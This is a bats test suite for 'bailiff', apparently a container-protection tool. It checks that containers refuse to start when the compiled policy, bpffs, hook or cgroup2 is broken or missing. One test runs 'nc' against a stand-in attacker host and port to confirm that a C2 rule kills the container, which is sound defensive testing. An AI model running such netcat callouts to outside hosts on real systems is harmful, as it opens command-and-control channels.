#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# A container that cannot be protected: it does not start, and one line says
# why.

load story

setup_file() { story_open; }
teardown_file() { story_close; }
teardown() { story_quiet; }

# A compiled policy is there, and no service that could replace it.
prepared() {
  service "$KILL_POLICY"
  service_stop
}

# refused ID WHY...: the container does not start, and one line has each WHY.
refused() {
  local id=$1
  shift
  run contained "$id" echo alive
  ((status != 0))
  [[ $output != *alive* ]]
  says "$@"
  nothing_left_of "$id"
}

@test "a damaged compiled policy" {
  prepared
  printf 'XXXX' | dd of="$SVC/state/policy.bin" bs=1 seek=40 conv=notrunc \
    status=none
  refused damaged policy.bin
  one_line_from bailiff-runc
}

@test "a compiled policy that is cut short" {
  prepared
  truncate --size=-9 "$SVC/state/policy.bin"
  refused truncated policy.bin
  one_line_from bailiff-hook
}

@test "a compiled policy of another version" {
  prepared
  # The version follows the magic; no version is that high.
  printf '\xfe\xfe' | dd of="$SVC/state/policy.bin" bs=1 seek=8 conv=notrunc \
    status=none
  refused versioned policy.bin
  one_line_from bailiff-runc
}

@test "no compiled policy at all" {
  service_prepare "$KILL_POLICY"
  refused missing policy.bin
  one_line_from bailiff-hook
}

@test "a compiled policy that others may write" {
  prepared
  chmod 0666 "$SVC/state/policy.bin"
  refused writable policy.bin
  one_line_from bailiff-runc
}

@test "a bpf_dir that is on no bpffs" {
  prepared
  mkdir "$SVC/no-bpffs"
  sed -i "s|^bpf_dir:.*|bpf_dir: $SVC/no-bpffs|" "$SVC/bailiff.yaml"
  refused unpinned "$SVC/no-bpffs"
  one_line_from bailiff-hook
}

@test "a hook program that is not there" {
  prepared
  sed -i "s|^hook:.*|hook: $SVC/no-hook|" "$SVC/bailiff.yaml"
  refused hookless "$SVC/no-hook"
  one_line_from bailiff-runc
}

@test "on_failure: allow starts it, and says that it is not protected" {
  service_prepare "$KILL_POLICY" "on_failure: allow"
  contained_detached allowed sleep 100
  contained_detached another sleep 100
  service_start
  wait_until 10 "bailiffd to tell" grep \
    "without enforcement: .*container=allowed" "$SVC/log"
  event "Unprotected container" '.bailiff.container.id == "another"'
  # Both are protected from then on, since there is a policy now.
  wait_until 10 "both to be protected" \
    metric 'bailiff_containers{state="degraded"} 0'
  run bailiff_api ps
  says allowed another
  bailiff_runc delete --force another
  # The policy kills for it.
  run bailiff_runc exec allowed sh -c "echo | nc -w 3 $ATTACKER4 1389"
  event "$C2_RULE" '.bailiff.container.id == "allowed"
    and .bailiff.outcome == "killed"'
  wait_until 10 "its end" cgroup_empty "$RUN_NAME/allowed"
  bailiff_runc delete allowed
}

@test "a container without a cgroup of its own" {
  prepared
  bundle_make "$SCRATCH/bundle-bare" "$ROOTFS" bare echo alive
  # runc puts it beside itself when the path is the caller's.
  own=$(sed -n 's/^0:://p' /proc/self/cgroup)
  jq --arg path "$own" '.linux.cgroupsPath = $path' \
    "$SCRATCH/bundle-bare/config.json" >"$SCRATCH/bare.json"
  mv "$SCRATCH/bare.json" "$SCRATCH/bundle-bare/config.json"
  run bailiff_runc run --bundle "$SCRATCH/bundle-bare" bare
  ((status != 0))
  [[ $output != *alive* ]]
  says cgroup
}

@test "broken settings keep nobody from ending a container" {
  service "$KILL_POLICY"
  contained_detached stuck sleep 100
  service_stop
  echo 'nonsense: [' >>"$SVC/bailiff.yaml"
  run bailiff_runc state stuck
  ((status == 0))
  run contained another echo alive
  ((status != 0))
  [[ $output != *alive* ]]
  bailiff_runc kill stuck KILL
  wait_until 10 "its end" cgroup_empty "$RUN_NAME/stuck"
  bailiff_runc delete stuck
  nothing_left_of stuck
}

# without_cgroup2 COMMAND...: as on a host with cgroup v1 only.
without_cgroup2() {
  # shellcheck disable=SC2016 # the inner shell expands
  unshare --mount bash -c 'umount "$0" && exec "$@"' "$CGROUP2" "$@"
}

@test "a host with cgroup v1 only, and doctor and bailiffd say so" {
  prepared
  run -1 without_cgroup2 "$BAILIFF_BIN/bailiff" doctor
  says "missing   cgroup mode" "no cgroup2 is mounted: boot with"
  run -4 without_cgroup2 "$BAILIFF_BIN/bailiffd" --config "$SVC/bailiff.yaml"
  says "no cgroup2 is mounted: boot with"
  bundle_make "$SCRATCH/bundle-unprotected" "$ROOTFS" unprotected echo alive
  run without_cgroup2 "$BAILIFF_BIN/bailiff-runc" \
    --bailiff-config "$SVC/bailiff.yaml" --root "$SCRATCH/runc" \
    run --bundle "$SCRATCH/bundle-unprotected" unprotected
  ((status != 0))
  [[ $output != *alive* ]]
  says "no cgroup2 is mounted: boot with"
  one_line_from bailiff-hook
  nothing_left_of unprotected
}
